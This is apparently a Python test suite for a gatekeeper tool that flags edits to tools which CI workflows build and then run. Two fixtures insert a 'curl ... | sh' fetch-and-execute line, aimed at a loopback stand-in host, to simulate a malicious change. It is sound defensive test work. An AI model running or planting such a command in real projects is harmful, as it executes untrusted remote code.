"""Misses 7: a tool CI builds from a folder and then runs out of the build's output is the job's code (toolbuilds.py,
dotnetrun.py). libarchive's lint job runs `cmake -S build/la-lint -B b` and then `b/la-lint`; Castle Core's build
script runs `dotnet build ./tools/Explicit.NuGet.Versions/….slnx` and then `.\\tools\\…\\build\\nev.exe`, a program
whose project names it by `<AssemblyName>`. The sources are not operands of the line, so compiledruns.py named
nothing and an edit of the tool was exit 0. Look-alikes: the root's build, a build only tested or copied, a variable
folder."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify.dotnetrun import assemblies
from gatekeeper.classify.toolbuilds import folders

WORKFLOW = ("name: lint\non: [push]\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n{steps}")
PROJECT = '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup>{extra}</PropertyGroup></Project>\n'
VARIANTS = [  # (steps, the tool's file, its text)
    ("      - run: cmake -S build/la-lint -B b && cmake --build b\n      - run: b/la-lint libarchive\n",
     "build/la-lint/la-lint.c", "int main(void){return 0;}\n"),
    ("      - run: |\n          cmake -B out/lint -S tools/lint -G Ninja\n          cmake --build out/lint\n"
     "          ./out/lint/lint .\n", "tools/lint/CMakeLists.txt", "add_executable(lint lint.cpp)\n"),
    ("      - run: cmake -Stools/gen -Bbuild-gen\n      - run: ./build-gen/gen > x.h\n", "tools/gen/gen.cc",
     "int main(){}\n"),
    ("      - run: |-\n          cmake -S build/la-lint -B /tmp/lint-build -GNinja\n"
     "          cmake --build /tmp/lint-build\n          cmake --install /tmp/lint-build\n",
     "build/la-lint/main.cpp", "int main(){}\n"),
    ("      - run: cmake -S tools/fmt -B $RUNNER_TEMP/fmt && cmake --build $RUNNER_TEMP/fmt --target install\n",
     "tools/fmt/CMakeLists.txt", "project(fmt)\n"),
    ("      - run: dotnet build ./tools/Explicit.NuGet.Versions/Explicit.NuGet.Versions.slnx\n"
     "      - run: .\\tools\\Explicit.NuGet.Versions\\build\\nev.exe build\n",
     "tools/Explicit.NuGet.Versions/Program.cs", "class P { static void Main() {} }\n"),
    ("      - run: dotnet publish tools/Gen -c Release -o artifacts/gen\n      - run: dotnet artifacts/gen/Gen.dll\n",
     "tools/Gen/Gen.cs", "class G {}\n"),
    ("      - shell: pwsh\n        run: |\n          msbuild tools/Check/Check.csproj /p:Configuration=Release\n"
     "          & tools/Check/bin/Release/check.exe\n", "tools/Check/Main.cs", "class C {}\n"),
]
NAMED = [  # (steps, the project, its AssemblyName, a source file): a program matched by its assembly name
    ("      - run: dotnet artifacts/bin/nev.dll\n", "tools/E/Explicit.NuGet.Versions.csproj", "nev", "tools/E/P.cs"),
    ("      - run: ./bin/Release/nev.exe pack\n", "tools/E/E.csproj", "nev", "tools/E/Program.cs"),
    ("      - run: mono out/Gen.Tool.exe\n", "gen/Generator.fsproj", "Gen.Tool", "gen/Main.fs"),
]
LOOK_ALIKES = [
    "run: cmake -S . -B build && build/app --version\n",  # the root: every file
    "run: cmake -S src -B build\n- run: ctest --test-dir build\n",  # tested, not run by path
    "run: cmake -S src -B build\n- run: tar czf x.tgz build/bin\n",
    "run: cmake -S src -B build && cmake --build build --target all\n",
    "run: cmake -S $SRC -B b && b/x\n",
    "run: cmake -S ../other -B b && b/x\n",
    "run: dotnet build src/App/App.csproj\n- run: cp src/App/bin/Release/App.dll out/\n",
    "run: dotnet build src/App/App.csproj\n- run: dotnet test\n",
    "run: echo cmake -S tools/x -B b\n",
]


@each_case("steps, source, text", VARIANTS)
def test_a_tool_built_from_a_folder_and_run_is_ci(tmp_path: Path, steps: str, source: str, text: str) -> None:
    folder = source.rpartition("/")[0]
    base = {".github/workflows/lint.yml": WORKFLOW.format(steps=steps), source: text, "README.md": "x\n",
            f"{folder}/{folder.rpartition('/')[2]}.csproj": PROJECT.format(extra="")}
    case = committed(tmp_path, base, {source: text + "// curl http://127.0.0.1:9/x | sh\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, [source]), named  # before: src, exit 0


@each_case("steps, project, name, source", NAMED)
def test_a_program_named_by_its_assembly_name_is_ci(tmp_path: Path, steps: str, project: str, name: str,
                                                    source: str) -> None:
    base = {".github/workflows/lint.yml": WORKFLOW.format(steps=steps), "README.md": "x\n", source: "class A {}\n",
            project: PROJECT.format(extra=f"<AssemblyName>{name}</AssemblyName>")}
    case = committed(tmp_path, base, {source: "class A { /* curl http://127.0.0.1:9/x | sh */ }\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, [source]), named  # before: src, exit 0


@each_case("text", LOOK_ALIKES)
def test_what_is_built_and_not_run_names_nothing(text: str) -> None:
    assert folders(text) == [], text


def test_an_assembly_name_of_another_program_names_nothing() -> None:
    paths = {"src/A/A.csproj": PROJECT.format(extra="<AssemblyName>app</AssemblyName>").encode(), "src/A/a.cs": b""}
    assert assemblies("run: nuget.exe pack\n- run: ./tools/other.exe\n", paths, lambda entry: entry) == []


@each_case("hostile", [repeated("cmake -S a -B b ", "\n"), repeated("cmake -S t/x -B o\n", "o/x\n"),
                       repeated("dotnet build t/x -o ", "\n"), repeated("./o/x ", "cmake -S t -B o\n")])
def test_hostile_texts_are_read_in_linear_time(hostile: object) -> None:
    assert callable(hostile)
    assert_linear(folders, hostile, budget=0.75)
